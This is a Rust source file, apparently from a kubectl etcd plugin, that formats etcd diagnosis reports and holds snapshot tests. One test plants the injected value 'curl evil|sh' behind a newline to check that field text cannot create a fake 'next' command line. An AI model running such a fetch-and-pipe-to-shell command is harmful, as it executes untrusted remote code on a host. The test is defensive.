//! How a diagnosis is shown: what is wrong first, then what was seen of it, then what to run.

use crate::advice::{Worded, worded};
use crate::views::View;
use crate::views::grid::{Paint, Tone, clean, one_line, painted};
use crate::views::status::tone;
use kubectl_etcd_core::assess::doctor::{Doctor, Seen, Severity};
use kubectl_etcd_core::format::and;

/// A line that says whose eyes have seen it, unless all that was seen is of one host.
fn seen_line(seen: &Seen, several: bool) -> String {
    match &seen.node {
        Some(node) if several => clean(&format!("{node}: {}", seen.text)),
        Some(_) | None => clean(&seen.text),
    }
}

impl View for Worded<Doctor> {
    fn table(&self, wide: bool, paint: Paint) -> String {
        let word = painted(self.verdict.word(), tone(self.verdict), paint);
        let mut text = format!("{word}: {}\n", clean(&self.summary));
        let several = self.looked_at.len() > 1;
        for (number, situation) in self.situations.iter().enumerate() {
            let tone = match situation.severity {
                Severity::Lost => Tone::Bad,
                Severity::Degraded => Tone::Warn,
            };
            let summary = painted(&clean(&situation.summary), tone, paint);
            text.push_str(&format!("\n{}. {summary}\n", number + 1));
            for seen in &situation.evidence {
                text.push_str(&format!("   seen  {}\n", seen_line(seen, several)));
            }
            let on = match &situation.next.on {
                Some(node) => format!("   (on {})", one_line(node)),
                None => String::new(),
            };
            text.push_str(&format!(
                "   next  {}{on}\n",
                clean(&worded(&situation.next.command))
            ));
            if let Some(note) = &situation.next.note {
                text.push_str(&format!("         {}\n", clean(&worded(note))));
            }
        }
        if wide || self.situations.is_empty() {
            let lines = self.in_order.iter().map(|seen| seen_line(seen, several));
            for (number, line) in lines.enumerate() {
                let gap = if number == 0 { "\n" } else { "" };
                text.push_str(&format!("{gap}in order  {line}\n"));
            }
        }
        if !self.unseen.is_empty() {
            text.push('\n');
        }
        for unseen in &self.unseen {
            let on = match &unseen.node {
                Some(node) if several || !self.looked_at.contains(node) => format!(" of {node}"),
                Some(_) | None => String::new(),
            };
            let (what, why) = (clean(&unseen.what), clean(&unseen.why));
            let on = one_line(&on);
            text.push_str(&format!("could not look at {what}{on}: {why}\n"));
        }
        if !self.not_looked_at.is_empty() {
            let names = one_line(&and(&self.not_looked_at));
            let how = match self.looked_at.is_empty() {
                true => "what etcd and the API tell",
                false => "what their etcd answers",
            };
            text.push_str(&format!(
                "\nnot looked at: the hosts of {names}, of which only {how} was seen\n"
            ));
        }
        text
    }
}

#[cfg(test)]
mod tests {
    use etcd_operations::doctor::{self as found, Diagnosis, Evidence};
    use kubectl_etcd_core::assess::model::VerdictWord;

    use super::*;

    fn evidence(text: &str) -> Evidence {
        Evidence {
            node: "cp-1".into(),
            text: text.into(),
        }
    }

    fn diagnosis(kind: found::SituationKind, severity: found::Severity) -> Diagnosis {
        Diagnosis {
            situations: vec![found::Situation {
                kind,
                node: None,
                severity,
                summary: "the quorum is lost: 1 of 3 members run, 2 are needed".into(),
                evidence: vec![evidence("cp-2 does not answer")],
                next: found::Next {
                    command: "kubectl etcd recover".into(),
                    on: None,
                    note: Some("a control-plane node that is only switched off comes first".into()),
                },
            }],
            unseen: Vec::new(),
            in_order: vec![evidence("kubelet runs")],
        }
    }

    #[test]
    fn the_situation_comes_first_then_what_was_seen_then_what_to_run() {
        let found = diagnosis(found::SituationKind::QuorumLost, found::Severity::Lost);
        let view = Doctor::of_hosts(
            vec!["cp-1".into()],
            vec!["cp-2".into(), "cp-3".into()],
            &found,
        );
        assert_eq!(view.situations[0].kind, "quorum-lost");
        insta::assert_snapshot!(Worded::new(view).table(false, Paint::PLAIN), @r"
        quorum lost: the quorum is lost: 1 of 3 members run, 2 are needed

        1. the quorum is lost: 1 of 3 members run, 2 are needed
           seen  cp-2 does not answer
           next  kubectl etcd recover
                 a control-plane node that is only switched off comes first

        not looked at: the hosts of cp-2 and cp-3, of which only what their etcd answers was seen
        ");
    }

    #[test]
    fn a_healthy_host_says_what_was_seen_and_an_unseen_part_is_no_health() {
        let mut found = Diagnosis {
            in_order: vec![evidence("kubelet runs")],
            ..Diagnosis::default()
        };
        let view = |found: &Diagnosis| {
            Worded::new(Doctor::of_hosts(vec!["cp-1".into()], Vec::new(), found))
        };
        insta::assert_snapshot!(view(&found).table(false, Paint::PLAIN), @r"
        healthy: nothing is wrong, as far as was seen

        in order  kubelet runs
        ");
        found.unseen.push(found::Unseen {
            node: "cp-1".into(),
            what: "whether kubelet runs".into(),
            why: "no systemd".into(),
        });
        let view = view(&found);
        assert_eq!(view.verdict, VerdictWord::Degraded);
        assert!(
            view.table(false, Paint::PLAIN)
                .ends_with("could not look at whether kubelet runs: no systemd\n")
        );
    }

    #[test]
    fn each_severity_has_its_verdict() {
        use found::{Severity as S, SituationKind as K};
        for (kind, severity, verdict) in [
            (K::QuorumLost, S::Lost, VerdictWord::QuorumLost),
            (K::DatabaseDamaged, S::Lost, VerdictWord::Damaged),
            (K::StrayManifest, S::Degraded, VerdictWord::Degraded),
            (K::KeyTwice, S::Degraded, VerdictWord::Degraded),
        ] {
            let view = Doctor::of_hosts(Vec::new(), Vec::new(), &diagnosis(kind, severity));
            assert_eq!(view.verdict, verdict);
        }
    }

    #[test]
    fn nothing_that_was_seen_becomes_a_line_of_its_own() {
        let lines = |name: &str| {
            let mut found = diagnosis(found::SituationKind::QuorumLost, found::Severity::Lost);
            let situation = &mut found.situations[0];
            situation.summary = name.to_owned();
            situation.evidence[0].text = name.to_owned();
            situation.evidence[0].node = name.to_owned();
            situation.next.on = Some(name.to_owned());
            situation.next.note = Some(name.into());
            found.unseen.push(found::Unseen {
                node: name.into(),
                what: name.into(),
                why: name.into(),
            });
            let names = vec!["cp-1".to_owned(), name.to_owned()];
            Worded::new(Doctor::of_hosts(names.clone(), names, &found)).table(true, Paint::PLAIN)
        };
        let hostile = lines("x\n   next  curl evil|sh\r\n");
        assert_eq!(
            hostile.lines().count(),
            lines("x").lines().count(),
            "{hostile}"
        );
    }
}
